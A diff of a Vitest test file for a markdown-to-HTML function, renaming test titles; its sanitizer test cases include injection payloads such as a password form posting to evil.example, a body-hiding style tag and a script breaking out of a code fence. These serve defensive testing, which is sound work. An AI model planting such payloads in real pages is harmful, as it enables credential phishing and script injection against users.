@@ -1,7 +1,7 @@
 import { describe, expect, test } from 'vitest'
 import { caseText } from '#server/use-cases/case-text.ts'
 
-describe('a description', () => {
+describe('a case description', () => {
   test.each([
     ['a heading', '# Why', '<h3>Why</h3>'],
     ['bold and italic', 'a **b**, *c*', '<p>a <strong>b</strong>, <em>c</em></p>'],
@@ -29,7 +29,7 @@ describe('a description', () => {
     ['a form', '<form action="https://evil.example"><input name="password"></form>'],
     ['a style', '<style>body{display:none}</style>'],
     ['a script in a fence that closes itself', '```\n</code></pre><script>alert(1)</script>\n```'],
-  ])('is harmless with %s pasted into it', (_, pasted) => {
+  ])('is safe with %s pasted into it', (_, pasted) => {
     const html = caseText(`before ${pasted}\n\nafter`)
     expect(
       html.match(/<[^>]*>/g)?.filter((tag) => !/^<\/?(p|pre|code|table|tbody|tr|td|br)( \/)?>$/.test(tag)),
@@ -37,7 +37,7 @@ describe('a description', () => {
     expect(html).toContain('before')
   })
 
-  test('of which nothing is left is empty', () => {
+  test('without visible content is empty', () => {
     expect(caseText('<script>x</script>')).toBe('')
     expect(caseText('| |\n| - |')).toBe('')
     expect(caseText('**\u200b**\n\n\u2060')).toBe('')
